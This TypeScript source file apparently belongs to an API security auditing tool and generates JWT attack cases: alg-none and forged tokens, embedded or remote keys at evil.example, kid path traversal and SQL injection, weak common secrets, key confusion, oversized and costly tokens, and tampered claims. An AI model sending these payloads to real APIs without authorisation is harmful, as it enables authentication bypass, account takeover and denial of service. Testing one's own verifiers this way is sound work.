import { generateKeyPairSync } from 'node:crypto';
import type { Step } from '../../model/exchange.ts';
import { parseClaims, encode, signToken, unsignedToken, withClaims, withFlippedBit } from '../../gather/sign-token.ts';
import { type Signer, signWithKey } from '../../gather/signer.ts';

export type AttackClass =
  | 'missing'
  | 'claimed-identity'
  | 'malformed'
  | 'wrong-key'
  | 'algorithm'
  | 'tampered'
  | 'expired'
  | 'not-yet-valid'
  | 'without-exp'
  | 'claims'
  | KeySetAttackClass;

/** Against an API that verifies tokens with an issuer's public keys. */
export type KeySetAttackClass = 'public-key-as-secret' | 'unpublished-key' | 'key-in-header' | 'signature-form' | 'issuer';

/** One bad credential, and how it is sent. */
export type Attack = { kind: AttackClass; name: string; headers?: readonly (readonly [string, string])[]; query?: string; step?: Step };

/** A valid token of the victim's owner, one of another tenant, and public names that could be a weak key. */
export type Material = {
  token: string;
  other: string;
  publicNames: readonly string[];
  /** Whether an issuer's keys verify tokens, so that its own attacks cover keys in headers, and guessed secrets matter less. */
  hasIssuer: boolean;
};

/** Lifetime of the tokens of the attacks. */
const LIFETIME_SECONDS = 600;
export const ATTACKERS_KEY = 'attacker-key-attacker-key-attacker-key';
/** Keys from tutorials, templates and word lists. Reports contain only their description, because one may be the target's key. */
const COMMON_KEYS = [
  ['a common word', 'secret'],
  ['a common password', 'changeme'],
  ['a word of many tests', 'supersecret'],
  ['the example of jwt.io', 'your-256-bit-secret'],
  ['a placeholder of development', 'development-secret-do-not-use-in-production'],
] as const;
const BETTER_AUTH = ['better-auth.session_token', 'better-auth.session_data'];
const QUERY_NAMES = ['access_token', 'token', 'jwt', 'auth'];
const COOKIES = ['token', 'access_token', 'jwt', 'session', ...['', '__Secure-'].flatMap((prefix) => BETTER_AUTH.map((name) => `${prefix}${name}`))];
const BARE_HEADERS = ['X-Access-Token', 'X-Auth-Token', 'X-API-Key', 'X-JWT'];
const BEARER_HEADERS = ['X-Authorization', 'X-Forwarded-Authorization', 'Proxy-Authorization'];
const USER_HEADERS = ['X-User-ID', 'X-User', 'X-Forwarded-User', 'X-Authenticated-User'];

/** No credentials, credentials in the wrong form, and malformed tokens. */
/** A request with it shows whether the API rejects anything. */
export const GARBAGE = bearer('malformed', 'garbage', 'garbage');

export function misplacedAndMalformed({ token }: Material): Attack[] {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const authorization = (name: string, ...values: readonly string[]): Attack => ({
    kind: 'missing',
    name,
    headers: values.map((value) => ['Authorization', value] as const),
  });
  return [
    GARBAGE,
    authorization('empty Authorization', ''),
    bearer('missing', 'Bearer alone', ''),
    authorization('Basic with the token', `Basic ${Buffer.from(`user:${token}`).toString('base64')}`),
    // Node uses the first one; the valid one after it must not be accepted.
    authorization('a second Authorization header', 'Bearer broken', `Bearer ${token}`),
    authorization('the token without a scheme', token),
    authorization('the token under another scheme', `Token ${token}`),
    bearer('malformed', 'two segments', `${header}.${payload}`),
    bearer('malformed', 'four segments, the last a bypass value for tests', `${token}.bypass-signature`),
    bearer('malformed', 'quotes', `"${token}"`),
    bearer('malformed', 'braces', `{${token}}`),
    bearer('malformed', 'white space within', `${header}. ${payload}.${signature}`),
    bearer('malformed', 'a payload that is not JSON', `${header}.${encode('not JSON')}.${signature}`),
  ];
}

/** The valid token in every place but the Authorization header: all in one request, and each in a separate one. */
export function inOtherPlaces({ token }: Material): { whole: Attack; parts: readonly Attack[] } {
  const user = String(parseClaims(token.split('.')[1] ?? '')['sub']);
  const query = `?${QUERY_NAMES.map((name) => `${name}=${token}`).join('&')}`;
  const parts: Attack[] = [
    { kind: 'missing', name: 'token in the query', query },
    { kind: 'missing', name: 'token in cookies', headers: [['Cookie', COOKIES.map((name) => `${name}=${token}`).join('; ')]] },
    {
      kind: 'missing',
      name: 'token and user in other headers',
      headers: [
        ...BARE_HEADERS.map((name) => [name, token] as const),
        ...BEARER_HEADERS.map((name) => [name, `Bearer ${token}`] as const),
        ...USER_HEADERS.map((name) => [name, user] as const),
      ],
    },
  ];
  const headers = parts.flatMap((part) => part.headers ?? []);
  return { whole: { kind: 'missing', name: 'token in the query, in cookies and in other headers', query, headers }, parts };
}

/** Tokens that cost the verifier more than the sender: large ones, and those that cause backtracking or many hash iterations. */
export function oversized({ token }: Material): Omit<Attack, 'kind'>[] {
  const header = { alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', zip: 'DEF', p2s: encode('salt'), p2c: 2_147_483_647 };
  const encrypted = [encode(JSON.stringify(header)), 'AAAA', 'AAAA', 'AAAA', 'AAAA'].join('.');
  return [
    ...[8, 16, 32].map((kibibytes) => bearer('malformed', `a token of ${kibibytes} KiB`, token.padEnd(kibibytes * 1_024, 'A'))),
    // A pattern with optional dots tries every split before it rejects the end.
    bearer('malformed', 'a token of 2 KiB with an invalid last character', `${'eyJ'.padEnd(2_048, 'A')}!`),
    bearer('malformed', 'an encrypted token with an expensive header', encrypted),
  ];
}

/** Tokens that can be created without the key. */
export function forged({ token, other, publicNames, hasIssuer }: Material): Attack[] {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const claims = { ...parseClaims(payload), exp: soon() };
  const withHeader = (name: string, more: Readonly<Record<string, unknown>>, key = ATTACKERS_KEY): Attack =>
    bearer('algorithm', name, signToken(claims, key, { alg: 'HS256', typ: 'JWT', ...more }));
  return [
    bearer(
      'tampered',
      'another user with the old signature',
      withClaims(token, (old) => ({ ...old, sub: 'audit-unknown-user' })),
    ),
    bearer('tampered', 'signature removed', `${header}.${payload}.`),
    bearer('tampered', 'signature truncated', token.slice(0, -4)),
    flippedBit(token),
    bearer('tampered', "another token's signature", `${header}.${payload}.${other.split('.')[2] ?? ''}`),
    ...['none', 'nOnE'].map((alg) => bearer('algorithm', `alg ${alg}`, unsignedToken(claims, alg, true))),
    bearer('algorithm', 'alg none without the last dot', unsignedToken(claims, 'none', false)),
    bearer('algorithm', 'alg none with a valid signature', `${encode(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${payload}.${signature}`),
    ...(hasIssuer ? [] : asymmetric(claims)),
    withHeader('embedded jwk', { jwk: { kty: 'oct', k: encode(ATTACKERS_KEY) } }),
    withHeader('jku, x5u and x5c of the attacker, and an object as kid', {
      jku: 'https://evil.example/jwks.json',
      x5u: 'https://evil.example/key.pem',
      x5c: [Buffer.from(ATTACKERS_KEY).toString('base64')],
      kid: { $ne: null },
    }),
    withHeader('kid of an empty file', { kid: `${'../'.repeat(12)}dev/null` }, ''),
    withHeader('kid of a setting with a well-known value', { kid: 'NODE_ENV' }, 'production'),
    withHeader('kid with SQL', { kid: `' union select '${ATTACKERS_KEY}' -- ` }),
    ...COMMON_KEYS.slice(0, hasIssuer ? 1 : COMMON_KEYS.length).map(([name, key]) =>
      bearer('wrong-key', `signed with ${name}`, signToken(claims, key)),
    ),
    bearer('wrong-key', 'signed with an empty key, kid blank', signToken(claims, '', { alg: 'HS256', typ: 'JWT', kid: '' })),
    ...publicNames.map((key) => bearer('wrong-key', "signed with the app's name", signToken(claims, key))),
  ];
}

/** It needs only a valid token. */
function flippedBit(token: string): Attack {
  return bearer('tampered', 'the last bit of the signature flipped', withFlippedBit(token));
}

/** These have a valid signature, so they show that claims and header are checked. */
export function rightlySigned(signer: Signer, userId: string): Attack[] {
  const now = Math.floor(Date.now() / 1_000);
  const { sign } = signer;
  const own = signer.claimsOf(userId);
  const valid = { ...own, sub: userId, exp: soon() };
  /** With another value in every claim that names the user. */
  const named = (value: unknown): Record<string, unknown> =>
    Object.fromEntries(['sub', ...Object.keys(own).filter((name) => own[name] === userId)].map((name) => [name, value]));
  const alg = String(signer.header['alg']);
  const claims = (name: string, changed: Readonly<Record<string, unknown>>): Attack => bearer('claims', name, sign({ ...valid, ...changed }));
  const header = (name: string, changed: Readonly<Record<string, unknown>>): Attack =>
    bearer('claims', name, sign(valid, { ...signer.header, ...changed }));
  return [
    bearer('expired', 'expired five minutes ago', sign({ sub: userId, exp: now - 300 })),
    bearer('without-exp', 'no exp', sign({ sub: userId })),
    bearer('without-exp', 'exp null', sign({ sub: userId, exp: null })),
    bearer('without-exp', 'exp too large for a number', sign(JSON.stringify({ ...valid, exp: 0 }).replace('"exp":0', '"exp":1e999'))),
    bearer('expired', 'exp zero', sign({ sub: userId, exp: 0 })),
    bearer('not-yet-valid', 'nbf in ten minutes', sign({ ...valid, exp: soon() + 3_600, nbf: now + 600 })),
    claims('exp a string', { exp: String(soon()) }),
    bearer('not-yet-valid', 'nbf in the future', sign({ ...valid, nbf: now + 3_600 })),
    bearer('claims', 'sub missing, the user id in other claims', sign({ ...otherIdentity(userId, own), ...named(undefined), exp: soon() })),
    claims('sub empty, the user id in other claims', { ...otherIdentity(userId, own), ...named('') }),
    claims('sub a number', named(1)),
    claims('sub an array', named([userId])),
    bearer('malformed', 'the payload null, with a valid signature', sign('null')),
    header('an unknown crit', { crit: ['audit'], audit: true }),
    header('a token of another type', { typ: 'logout+jwt' }),
    header('alg in lower case', { alg: alg.toLowerCase() }),
    header('alg an array', { alg: [alg] }),
    header('alg missing', { alg: undefined }),
    header('alg with a trailing space', { alg: `${alg} ` }),
  ];
}

/** Other algorithms that use the same secret. */
export function otherHashes(secret: string, { claimsOf, header }: Signer, userId: string): Attack[] {
  return ['256', '384', '512']
    .map((bits) => ({ alg: `HS${bits}`, hash: `sha${bits}` }))
    .filter(({ alg }) => alg !== header['alg'])
    .map(({ alg, hash }) =>
      bearer('claims', `${alg} under the right key`, signToken({ ...claimsOf(userId), sub: userId, exp: soon() }, secret, { ...header, alg }, hash)),
    );
}

/** Claims in which issuers and libraries put the user id besides or instead of `sub`. */
const IDENTITY_CLAIMS =
  'user_id userId uid id user_name username preferred_username email name login nickname account account_id owner oid upn unique_name client_id azp cid'.split(
    ' ',
  );

/** @param common claims that must keep their value */
export function otherIdentity(userId: string, common: Readonly<Record<string, unknown>>): Record<string, unknown> {
  return { ...Object.fromEntries(IDENTITY_CLAIMS.map((name) => [name, userId])), user: { id: userId, sub: userId }, act: { sub: userId }, ...common };
}

/** The verification with the second key must be as strict. */
export function underSecondKey(secret: string, userId: string): Attack[] {
  const sign = (claims: Readonly<Record<string, unknown>>): string => signToken(claims, secret);
  return [
    bearer('claims', 'HS512 under the second key', signToken({ sub: userId, exp: soon() }, secret, { alg: 'HS512', typ: 'JWT' }, 'sha512')),
    bearer('expired', 'expired, under the second key', sign({ sub: userId, exp: soon() - 1_200 })),
    bearer('expired', 'no exp, under the second key', sign({ sub: userId })),
  ];
}

/** A verifier that trusts the header takes the attacker's public key from it, or uses the shared secret as a public key. */
function asymmetric(claims: Readonly<Record<string, unknown>>): Attack[] {
  const pairs = [
    ['RS256', generateKeyPairSync('rsa', { modulusLength: 2_048 })],
    ['ES256', generateKeyPairSync('ec', { namedCurve: 'P-256' })],
    ['EdDSA', generateKeyPairSync('ed25519')],
  ] as const;
  return pairs.map(([alg, { privateKey, publicKey }]) => {
    const header = { alg, typ: 'JWT', jwk: publicKey.export({ format: 'jwk' }) };
    return bearer('algorithm', `${alg} with a key of the attacker, the public key in the header`, signWithKey(claims, privateKey, alg, header));
  });
}

export function bearer(kind: AttackClass, name: string, token: string): Attack {
  return { kind, name, headers: [['Authorization', `Bearer ${token}`]] };
}

export function soon(): number {
  return Math.floor(Date.now() / 1_000) + LIFETIME_SECONDS;
}
